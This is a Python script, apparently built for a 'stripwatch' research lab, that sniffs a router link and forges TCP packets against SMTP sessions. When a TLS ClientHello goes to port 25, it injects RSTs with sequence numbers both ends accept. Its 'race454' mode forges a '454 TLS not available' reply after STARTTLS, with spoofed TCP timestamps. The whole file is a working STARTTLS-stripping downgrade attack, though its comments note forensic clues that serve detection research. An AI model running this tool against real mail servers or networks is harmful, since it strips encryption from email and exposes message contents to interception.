#!/usr/bin/python3
"""On-path TCP RST injector for the stripwatch lab (Python 3 stdlib, AF_PACKET).

Sniffs the sender-side link of the MITM router. When a TLS ClientHello (record type 0x16,
handshake type 0x01) travels from a sender to TCP port 25 it forges, at layer 2:
  * a RST from the receiver's address to the sender, with the exact sequence number the sender
    expects next (the ClientHello's ACK field), so the sender's kernel accepts it (RFC 5961 3.2);
  * after a short delay, a RST from the sender's address to the receiver at the ClientHello's end
    sequence number, so the receiver tears its half down too (like the GFW-style injectors
    measured in the literature, which reset both ends).
The ClientHello itself is forwarded normally (the receiver sees it); the lab adds an nftables rule
that drops the receiver's answering handshake records at the router, so the injected RST always
wins the race against the real ServerHello at vantage A. Forged packets carry TTL/hop limit 64
while forwarded ones arrive with 63: a real forensic clue, kept on purpose.
"""
import argparse
import json
import os
import socket
import struct
import threading
import time

ETH_P_ALL = 0x0003


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def tcp_rst(src, dst, sport, dport, seq, ack, v6, flags=0x14, payload=b"", ts=None, win=0):
    opts = b"" if ts is None else b"\x01\x01\x08\x0a" + struct.pack("!II", *ts)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 + len(opts) // 4) << 4, flags,
                      win, 0, 0) + opts + payload
    if v6:
        pseudo = src + dst + struct.pack("!IxxxB", len(hdr), 6)
    else:
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(hdr))
    c = csum(pseudo + hdr)
    hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
    if v6:
        ip = struct.pack("!IHBB", 6 << 28, len(hdr), 6, 64) + src + dst
        return b"\x86\xdd", ip + hdr
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(hdr), int.from_bytes(os.urandom(2), "big"),
                     0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\x08\x00", ip + hdr


def parse(frame):
    """Returns (v6, src, dst, ip_payload) for IPv4/IPv6 TCP frames, else None."""
    etype = frame[12:14]
    if etype == b"\x08\x00" and frame[23] == 6:
        ihl = (frame[14] & 0x0F) * 4
        total = struct.unpack("!H", frame[16:18])[0]
        return False, frame[26:30], frame[30:34], frame[14 + ihl:14 + total]
    if etype == b"\x86\xdd" and frame[20] == 6:
        plen = struct.unpack("!H", frame[18:20])[0]
        return True, frame[22:38], frame[38:54], frame[54:54 + plen]
    return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--sender-if", required=True)
    ap.add_argument("--receiver-if", required=True)
    ap.add_argument("--receiver-mac", required=True)
    ap.add_argument("--delay", type=float, default=0.02)
    ap.add_argument("--log", required=True)
    ap.add_argument("--mode", choices=["rst", "race454"], default="rst")
    ap.add_argument("--every", type=int, default=1, help="attack every Nth connection (race454)")
    a = ap.parse_args()
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    rx.bind((a.sender_if, 0))
    tx_s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx_s.bind((a.sender_if, 0))
    tx_r = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx_r.bind((a.receiver_if, 0))
    r_mac = mac(a.receiver_mac)
    r_if_mac = mac(open("/sys/class/net/%s/address" % a.receiver_if).read().strip())
    log = open(a.log, "a")
    seen = set()
    print("ready", flush=True)
    while True:
        frame, meta = rx.recvfrom(65535)
        if meta[2] == socket.PACKET_OUTGOING:
            continue
        p = parse(frame)
        if p is None:
            continue
        v6, src, dst, seg = p
        sport, dport, seq, ack = struct.unpack("!HHII", seg[:12])
        off = (seg[12] >> 4) * 4
        payload = seg[off:]
        if a.mode == "race454":
            if dport == 25 and payload[:8].upper() == b"STARTTLS":
                race454(a, tx_s, frame, v6, src, dst, sport, dport, seq, ack, seg, payload, log,
                        seen)
            continue
        if dport != 25 or len(payload) < 6 or payload[0] != 0x16 or payload[5] != 0x01:
            continue
        key = (src, sport)
        if key in seen:
            continue
        seen.add(key)
        end = (seq + len(payload)) & 0xFFFFFFFF
        etype, pkt = tcp_rst(dst, src, dport, sport, ack, end, v6)
        tx_s.send(frame[6:12] + frame[0:6] + etype + pkt)
        t_sender = time.time()

        def later(src=src, dst=dst, sport=sport, dport=dport, end=end, ack=ack, v6=v6):
            time.sleep(a.delay)
            etype2, pkt2 = tcp_rst(src, dst, sport, dport, end, ack, v6)
            tx_r.send(r_mac + r_if_mac + etype2 + pkt2)

        threading.Thread(target=later, daemon=True).start()
        fam = socket.AF_INET6 if v6 else socket.AF_INET
        log.write(json.dumps({"t": t_sender, "client": [socket.inet_ntop(fam, src), sport],
                              "server": [socket.inet_ntop(fam, dst), dport],
                              "clienthello_seq": seq, "rst_to_sender_seq": ack,
                              "rst_to_receiver_seq": end}) + "\n")
        log.flush()


REPLY_454 = b"454 4.7.0 TLS not available due to local problem\r\n"


def tcp_timestamps(seg):
    """(TSval, TSecr) from a TCP header's options, or None."""
    opts, i = seg[20:(seg[12] >> 4) * 4], 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        ln = opts[i + 1] if i + 1 < len(opts) else 0
        if kind == 8 and ln == 10:
            return struct.unpack("!II", opts[i + 2:i + 10])
        i += max(ln, 2)
    return None


def race454(a, tx_s, frame, v6, src, dst, sport, dport, seq, ack, seg, payload, log, seen):
    """Forge '454' from the receiver the moment STARTTLS passes (an on-path, not inline, attacker).

    The genuine '220 2.0.0 Ready to start TLS' later arrives with the same sequence number and
    different bytes: the overlap conflict an on-path injection leaves at the client's side.
    The timestamp option echoes the peer's values so the client's PAWS check accepts it.
    """
    key = (src, sport)
    if key in seen:
        return
    seen.add(key)
    n = len(seen)
    if (n - 1) % a.every:
        return
    ts = tcp_timestamps(seg)
    etype, pkt = tcp_rst(dst, src, dport, sport, ack, (seq + len(payload)) & 0xFFFFFFFF, v6,
                         flags=0x18, payload=REPLY_454, ts=(ts[1], ts[0]) if ts else None,
                         win=502)
    tx_s.send(frame[6:12] + frame[0:6] + etype + pkt)
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    log.write(json.dumps({"t": time.time(), "mode": "race454",
                          "client": [socket.inet_ntop(fam, src), sport],
                          "server": [socket.inet_ntop(fam, dst), dport], "seq": ack}) + "\n")
    log.flush()


if __name__ == "__main__":
    main()
